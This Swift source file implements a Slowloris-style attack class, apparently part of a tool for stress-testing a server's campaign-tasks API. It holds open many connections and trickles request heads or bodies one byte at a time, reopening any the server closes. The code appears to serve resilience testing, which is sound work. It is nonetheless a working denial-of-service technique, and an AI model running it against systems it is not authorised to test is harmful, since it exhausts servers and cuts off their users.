/// `slowloris`: connections that each trickle a task create one byte at a time. Even connections trickle
/// the whole request from its first byte (a head that never ends); odd ones send the head at once and
/// trickle the body (a body that never ends). A connection that completes its request starts the next
/// on the same connection; one the server closes is reopened. What the server sends back is read and
/// dropped.
final class SlowlorisAttack: Attack, RawConnectionOwner {
    private(set) var counts = AttackCounts()
    private let settings: AttackSettings
    private unowned let loop: ClientLoop
    private let request: [UInt8]
    private let headLength: Int
    private var connections: [RawConnection?]
    /// Per connection: bytes of the current request written.
    private var positions: [Int]
    private var stopped = false
    /// The connections are served in this many groups, one group per tick, so the bytes are spread
    /// evenly over each interval instead of leaving in one burst.
    private let groups: Int
    /// Sends per tick, at most (while ticks are at least 1 ms apart): about 0.1 ms of this thread's
    /// time. On a machine the tool shares with the server, a longer burst holds a core the server's
    /// loop is woken onto (the kernel places a woken thread beside its waker), and the probe's write
    /// that lands in it waits for the attacker's CPU, not for the server's work. With 100 sends a tick
    /// (10 groups of 1000 connections), `perf sched` showed the server's loop waiting 0.8 ms for a core
    /// at each tick while the other core was idle.
    static let sendsPerTick = 10
    private var tickNumber = 0

    init(settings: AttackSettings, loop: ClientLoop) {
        self.settings = settings
        self.loop = loop
        let body = LargeBody.untitledCreate(bytes: 1024)
        request = HTTPRequest.encode(method: "POST", path: "/api/campaigns/\(settings.campaignID)/tasks",
                                     address: settings.address, token: settings.token, body: body)
        headLength = request.count - body.count
        connections = Array(repeating: nil, count: settings.attackers)
        positions = Array(repeating: 0, count: settings.attackers)
        groups = SlowlorisAttack.groups(attackers: settings.attackers, trickleInterval: settings.trickleInterval)
    }

    /// Enough groups for `sendsPerTick` each, and no more than one tick a millisecond.
    static func groups(attackers: Int, trickleInterval: Double) -> Int {
        let wanted = (attackers + sendsPerTick - 1) / sendsPerTick
        let ticksPerInterval = max(1, Int(trickleInterval * 1000))
        return max(1, min(wanted, ticksPerInterval))
    }

    func start() {
        for index in 0..<settings.attackers { open(index) }
        scheduleTick()
    }

    func stop() {
        stopped = true
        for connection in connections { connection?.close() }
    }

    /// Writing is paced by the ticks, not by writability.
    func rawConnectionIsWritable(_ connection: RawConnection) {}

    func rawConnectionEnded(_ connection: RawConnection) {
        guard connections[connection.index] === connection else { return }
        counts.connectionsClosedByServer += 1
        connections[connection.index] = nil
        guard !stopped else { return }
        loop.schedule(at: Clock.now() + 10_000_000) { [weak self] in self?.open(connection.index) }
    }

    private func open(_ index: Int) {
        guard !stopped else { return }
        do {
            connections[index] = try RawConnection(index: index, loop: loop, owner: self, address: settings.address,
                                                   source: settings.source(index), readsInput: true)
            positions[index] = 0
            counts.connectionsOpened += 1
        } catch {
            counts.connectFailures += 1
            loop.schedule(at: Clock.now() + 100_000_000) { [weak self] in self?.open(index) }
        }
    }

    private func scheduleTick() {
        let interval = Clock.nanoseconds(seconds: settings.trickleInterval / Double(groups))
        loop.schedule(at: Clock.now() + max(1_000_000, interval)) { [weak self] in
            guard let self, !stopped else { return }
            trickle(group: tickNumber % groups)
            tickNumber += 1
            scheduleTick()
        }
    }

    private func trickle(group: Int) {
        for index in stride(from: group, to: connections.count, by: groups) {
            guard let connection = connections[index], counts.requestsSent < settings.maximumRequests else { continue }
            let position = positions[index]
            // An odd connection's head goes out whole; every other byte leaves alone.
            let length = index % 2 == 1 && position == 0 ? headLength : 1
            let result = request.withUnsafeBytes {
                connection.send(UnsafeRawBufferPointer(rebasing: $0[position..<(position + length)]))
            }
            switch result {
            case .bytes(let count):
                counts.bytesSent += count
                positions[index] = position + count
                if positions[index] == request.count {
                    counts.requestsSent += 1
                    positions[index] = 0
                }
            case .wouldBlock, .endOfFile:
                break
            case .failed:
                connection.close()
                rawConnectionEnded(connection)
            }
        }
    }
}
